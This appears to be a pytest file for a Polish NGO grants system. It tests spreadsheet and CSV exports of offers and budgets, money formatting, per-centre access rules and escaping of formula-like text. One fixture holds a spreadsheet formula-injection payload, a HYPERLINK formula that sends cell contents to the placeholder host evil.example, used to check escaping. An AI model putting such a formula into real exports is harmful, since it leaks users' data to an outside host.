"""Spreadsheets of a call for the grants officer: one row per submitted offer, one row per cost
line of their budgets; money as exact numbers to the grosz, text that cannot run as a formula,
and only the person's own centre's offers."""

import csv
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from accounts.models import Role
from core.models import Centre
from ngo_grants.models import Offer
from ngo_grants.services.submission import withdraw_offer
from tests.accounts.helpers import make_staff
from tests.ngo_grants import complete_draft, make_call, make_call_index, make_organisation
from tests.ngo_grants.staff_helpers import submitted_offer

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")'


@pytest.fixture
def organisation(centre):
    return make_organisation(name="+Stowarzyszenie Pomocna Dłoń", centres=[centre])


@pytest.fixture
def offer(call, organisation):
    return submitted_offer(call, organisation, title=HOSTILE_TITLE)


@pytest.fixture
def officer(client, jaslo):
    client.force_login(make_staff("dotacje@example.org", jaslo, Role.GRANTS_OFFICER))
    return client


def export_url(call, what, fmt):
    return f"/admin/oferty/eksport/{call.pk}/{what}/{fmt}/"


def xlsx_rows(response):
    assert response["Content-Disposition"].startswith("attachment;")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return sheet, [list(row) for row in sheet.iter_rows(values_only=True)]


def csv_rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def as_dicts(rows):
    headers, *body = rows
    return [dict(zip(headers, row, strict=True)) for row in body]


def test_offers_xlsx_has_one_row_per_offer_with_exact_amounts(officer, call, offer):
    sheet, rows = xlsx_rows(officer.get(export_url(call, "oferty", "xlsx")))

    [row] = as_dicts(rows)
    assert row["numer oferty"] == offer.number
    assert row["NIP"] == offer.organisation.nip and row["KRS"] == offer.organisation.krs
    assert row["zadanie publiczne"] == offer.task.title
    assert Decimal(str(row["koszt całkowity (zł)"])) == Decimal("10000.00")
    assert Decimal(str(row["wnioskowana dotacja (zł)"])) == Decimal("9000.00")
    assert Decimal(str(row["wkład własny i inne źródła (zł)"])) == Decimal("1000.00")
    assert Decimal(str(row["udział wkładu własnego (%)"])) == Decimal("10.00")
    assert row["początek realizacji"].date().isoformat() == f"{offer.task.starts_on.year}-02-01"
    assert row["suma kontrolna SHA-256"] == offer.versions.get().checksum
    assert sheet["I2"].number_format == "#,##0.00"


def test_text_that_looks_like_a_formula_is_written_as_text(officer, call, offer):
    _sheet, rows = xlsx_rows(officer.get(export_url(call, "oferty", "xlsx")))
    [xlsx_row] = as_dicts(rows)
    [csv_row] = as_dicts(csv_rows(officer.get(export_url(call, "oferty", "csv"))))

    for row in (xlsx_row, csv_row):
        assert row["tytuł zadania"] == "'" + HOSTILE_TITLE
        assert row["organizacja"] == "'+Stowarzyszenie Pomocna Dłoń"


def test_offers_csv_writes_money_as_poles_read_it(officer, call, offer):
    [row] = as_dicts(csv_rows(officer.get(export_url(call, "oferty", "csv"))))

    assert row["koszt całkowity (zł)"] == "10000,00"
    assert row["wnioskowana dotacja (zł)"] == "9000,00"
    assert row["udział wkładu własnego (%)"] == "10,00"
    assert row["złożona"] == offer.submitted_at.astimezone(ZoneInfo("Europe/Warsaw")).strftime("%Y-%m-%d %H:%M")


def test_budgets_have_one_row_per_cost_line(officer, call, offer):
    _sheet, rows = xlsx_rows(officer.get(export_url(call, "budzety", "xlsx")))

    lines = as_dicts(rows)
    assert [line["rodzaj kosztu"] for line in lines] == ["Wynagrodzenie opiekunki", "Księgowość"]
    first, second = lines
    assert first["numer oferty"] == offer.number
    assert first["kategoria kosztu"] == "koszty realizacji działań"
    assert second["kategoria kosztu"] == "koszty administracyjne"
    assert Decimal(str(first["liczba jednostek"])) == Decimal("200")
    assert Decimal(str(first["koszt jednostkowy (zł)"])) == Decimal("45.00")
    assert Decimal(str(first["koszt całkowity (zł)"])) == Decimal("9000.00")
    assert Decimal(str(second["z innych źródeł (zł)"])) == Decimal("1000.00")
    total = sum(Decimal(str(line["koszt całkowity (zł)"])) for line in lines)
    assert total == offer.total_cost


def test_budgets_csv_keeps_grosze(officer, call, organisation):
    changes = {
        "costs": {
            "lines": [
                {
                    "category": "action",
                    "name": "Bilety",
                    "quantity": "3",
                    "unit": "sztuka",
                    "unit_cost": "33,33",
                    "total": "99,99",
                    "from_grant": "89,99",
                    "from_other": "10,00",
                }
            ]
        },
        "financing": {"own_funds": "10,00"},
    }
    submitted_offer(call, organisation, changes=changes)

    [line] = as_dicts(csv_rows(officer.get(export_url(call, "budzety", "csv"))))

    assert (line["koszt jednostkowy (zł)"], line["koszt całkowity (zł)"]) == ("33,33", "99,99")
    assert (line["z dotacji (zł)"], line["z innych źródeł (zł)"]) == ("89,99", "10,00")


def test_exports_leave_out_drafts_and_withdrawn_offers(officer, call, organisation, centre, offer):
    withdrawn = submitted_offer(call, make_organisation(name="Fundacja Wycofana", number=1, centres=[centre]))
    withdraw_offer(withdrawn, user=withdrawn.organisation.memberships.get().user)
    Offer.objects.create(
        call=call,
        task=call.tasks.get(),
        organisation=organisation,
        centre=centre,
        title="Szkic prywatny",
        draft=complete_draft(call.tasks.get()),
    )

    rows = as_dicts(csv_rows(officer.get(export_url(call, "oferty", "csv"))))
    lines = as_dicts(csv_rows(officer.get(export_url(call, "budzety", "csv"))))

    assert [row["numer oferty"] for row in rows] == [offer.number]
    assert {line["numer oferty"] for line in lines} == {offer.number}


def test_another_centres_officer_cannot_export_the_call(client, call, offer, pulawy):
    client.force_login(make_staff("dotacje.pulawy@example.org", pulawy, Role.GRANTS_OFFICER))

    for what in ("oferty", "budzety"):
        for fmt in ("xlsx", "csv"):
            assert client.get(export_url(call, what, fmt)).status_code == 404


def test_own_call_exports_only_the_own_centres_offers(client, pulawy, offer):
    pulawy_call = make_call(make_call_index(pulawy, slug="konkursy-pulawy"), "Konkurs w Puławach", slug="k-pulawy")
    centre_b = Centre.for_site(pulawy)
    theirs = submitted_offer(pulawy_call, make_organisation(name="Fundacja z Puław", number=2, centres=[centre_b]))
    client.force_login(make_staff("dotacje.pulawy@example.org", pulawy, Role.GRANTS_OFFICER))

    rows = as_dicts(csv_rows(client.get(export_url(pulawy_call, "oferty", "csv"))))

    assert [row["numer oferty"] for row in rows] == [theirs.number]


@pytest.mark.parametrize("path", ["oferty/pdf", "wszystko/csv", "oferty/xlsx/../csv"])
def test_unknown_kinds_and_formats_are_not_found(officer, call, offer, path):
    assert officer.get(f"/admin/oferty/eksport/{call.pk}/{path}/").status_code == 404


def test_coordinators_cannot_export(client, jaslo, call, offer):
    client.force_login(make_staff("koordynatorka@example.org", jaslo, Role.COORDINATOR))

    response = client.get(export_url(call, "oferty", "csv"))

    # Wagtail answers a refused permission with a redirect to the dashboard.
    assert response.status_code == 302 and response["Location"] == "/admin/"
